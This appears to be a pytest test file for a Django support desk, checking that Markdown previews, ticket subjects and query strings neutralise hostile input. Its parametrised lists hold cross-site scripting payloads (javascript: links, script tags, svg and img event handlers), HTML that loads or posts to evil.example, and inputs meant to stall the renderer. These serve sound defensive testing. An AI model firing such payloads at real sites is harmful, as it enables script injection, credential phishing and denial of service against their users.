"""What becomes of the Markdown that people write: formatting, and nothing that runs or reaches out."""

import re
import time
from collections.abc import Callable

import pytest
from django.test import Client

from accounts.models import User
from supportdesk.lib.html import render_markdown, sanitise
from tests import factories
from tickets.models import Message

pytestmark = pytest.mark.django_db
ClientOf = Callable[[User], Client]


def preview(client: Client, text: str) -> str:
    answer = client.post("/markdown/preview/", {"text": text})
    assert answer.status_code == 200
    return answer.content.decode()


def test_the_preview_is_what_the_message_will_look_like(rita: User, client_of: ClientOf) -> None:
    text = "**Bold**, `code`\n\n```\nlog\n```\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |"
    ticket = factories.open_ticket(rita, body=text)
    shown = preview(client_of(rita), text)
    assert shown in client_of(rita).get(f"/requests/{ticket.number}/").content.decode()
    for tag in ("<strong>", "<code>", "<pre>", "<ul>", "<table>"):
        assert tag in shown


@pytest.mark.parametrize("text", ["a\x00b", "x" * (64 * 1024 + 1), "é" * 40_000])
def test_a_text_that_could_not_be_sent_can_not_be_previewed(rita: User, client_of: ClientOf, text: str) -> None:
    assert client_of(rita).post("/markdown/preview/", {"text": text}).status_code == 400


LINKS = [
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](JaVa&#115;cript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
]


@pytest.mark.parametrize("text", LINKS)
def test_s041_no_link_runs_anything(rita: User, client_of: ClientOf, text: str) -> None:
    shown = preview(client_of(rita), text)
    hrefs = re.findall(r'href="([^"]*)"', shown)
    assert all(href.split(":")[0] in {"http", "https", "mailto"} for href in hrefs), shown


@pytest.mark.parametrize("text", ["[x](https://example.com)", "https://example.com", "<https://example.com>"])
def test_s041_links_say_what_they_are(rita: User, client_of: ClientOf, text: str) -> None:
    assert 'rel="nofollow noopener noreferrer ugc"' in preview(client_of(rita), text)


HTML = [
    '<img src=" javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<div style="position:fixed;inset:0">over all</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<svg onload="alert(1)"></svg>',
    "<script>alert(1)</script>",
]
_LIVE = re.compile(r"<(img|iframe|form|input|meta|base|style|div|link|svg|script|audio|video|source|object|embed)\b")


@pytest.mark.parametrize("html", HTML)
def test_s042_html_is_text_and_what_comes_as_html_is_sanitised(rita: User, client_of: ClientOf, html: str) -> None:
    assert not _LIVE.search(preview(client_of(rita), html))
    assert not _LIVE.search(sanitise(html))
    assert "style=" not in sanitise(html)
    ticket = factories.open_ticket(rita, body=html)
    page = client_of(rita).get(f"/requests/{ticket.number}/").content.decode()
    conversation = page.partition('<div class="body prose">')[2].partition("</div>")[0]
    assert not _LIVE.search(conversation)


@pytest.mark.parametrize(
    "subject", ['"><script>alert(1)</script>', "<img src=x onerror=alert(1)>", "</title><svg onload=alert(1)>"]
)
def test_s043_a_subject_is_escaped_in_lists_and_pages(rita: User, client_of: ClientOf, subject: str) -> None:
    ticket = factories.open_ticket(rita, subject=subject)
    for path in ("/requests/", f"/requests/{ticket.number}/"):
        page = client_of(rita).get(path).content.decode()
        assert subject not in page
        assert "&lt;" in page


@pytest.mark.parametrize(
    "query", ['?order="><script>alert(1)</script>', '?q="><script>alert(1)</script>', "?status[]=<script>", "?of=<b>"]
)
def test_s043_nothing_of_an_address_is_echoed(rita: User, client_of: ClientOf, query: str) -> None:
    page = client_of(rita).get(f"/requests/{query}").content.decode()
    assert "<script>alert" not in page
    unknown = client_of(rita).get(f"/requests/no-such-thing/{query}")
    assert unknown.status_code == 404
    assert b"no-such-thing" not in unknown.content


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/x.png)",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        '<audio src="https://evil.example/x.mp3"></audio>',
        '<p style="background:url(https://evil.example/x)">x</p>',
    ],
)
def test_s045_a_message_loads_nothing_from_elsewhere(rita: User, client_of: ClientOf, text: str) -> None:
    shown = preview(client_of(rita), text)
    assert not re.search(r"<[^>]*\b(src|srcset|poster|background|style)=", shown)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 60_000,
        " *a" * 20_000,
        ">" * 60_000,
        "> " * 30_000,
        "`" * 60_000,
        "<" * 60_000,
        "http://" + "a" * 60_000,
        "![" * 30_000,
        "- " * 30_000,
        "| a " * 15_000 + "\n" + "| - " * 15_000,
        "a\n" * 30_000,
    ],
)
def test_s105_no_text_takes_long_to_render(text: str) -> None:
    began = time.monotonic()
    render_markdown(text)
    assert time.monotonic() - began < 2


def test_s044_even_a_script_in_a_stored_text_is_held_back_by_the_policy(rita: User, client_of: ClientOf) -> None:
    ticket = factories.open_ticket(rita)
    Message.objects.filter(ticket=ticket).update(body_html="<script>alert(1)</script><img src=x onerror=alert(1)>")
    for path in (f"/requests/{ticket.number}/", "/requests/", "/requests/new/"):
        policy = client_of(rita).get(path)["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
